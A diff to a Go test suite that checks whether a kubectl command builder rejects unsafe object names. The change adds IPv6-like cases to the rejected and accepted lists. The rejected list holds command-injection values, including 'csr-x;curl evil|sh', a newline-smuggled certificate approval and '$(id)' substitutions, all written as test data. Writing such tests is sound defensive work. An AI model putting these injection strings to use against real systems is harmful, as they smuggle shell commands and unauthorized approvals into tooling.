@@ -10,7 +10,7 @@ import (
 func TestANameIsNoCommand(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{
-		"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "-f=x", "a'b", "a`id`", "a\\b", "a&b", "a>b", "a*", "a{b,c}", "a,b", "~root", "!!", "#a", "", ".", "..", "next:", "undo:", "a:", "next::", "a\x1b[2J", "ä", "a\u202eb", "\xff",
+		"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "-f=x", "a'b", "a`id`", "a\\b", "a&b", "a>b", "a*", "a{b,c}", "a,b", "~root", "!!", "#a", "", ".", "..", "::1%next;x", "fe80::1%a", "::next", "next:", "undo:", "a:", "next::", "a\x1b[2J", "ä", "a\u202eb", "\xff",
 	} {
 		for how, got := range map[string]string{
 			"alone":        Command("kubectl get csr -o name", "kubectl certificate approve %s", name),
@@ -31,7 +31,7 @@ func TestANameIsNoCommand(t *testing.T) {
 // TestNamesOfObjectsAreInCommands: what clusters have stays as it is.
 func TestNamesOfObjectsAreInCommands(t *testing.T) {
 	t.Parallel()
-	for _, name := range []string{"csr-x7b2q", "node-csr-ZBzS_0qs", "worker-0.example.com", "system:node:worker-0", "secret/a", "/var/lib/kubelet/kubeconfig", "kubernetes-admin@kubernetes", "2001:db8::7", "2001:db8::", "0"} {
+	for _, name := range []string{"csr-x7b2q", "node-csr-ZBzS_0qs", "worker-0.example.com", "system:node:worker-0", "secret/a", "/var/lib/kubelet/kubeconfig", "kubernetes-admin@kubernetes", "2001:db8::7", "2001:db8::", "::1", "::", "0"} {
 		if got := Command("", "kubectl get %s", name); got != "kubectl get "+name {
 			t.Errorf("%q: %s", name, got)
 		}
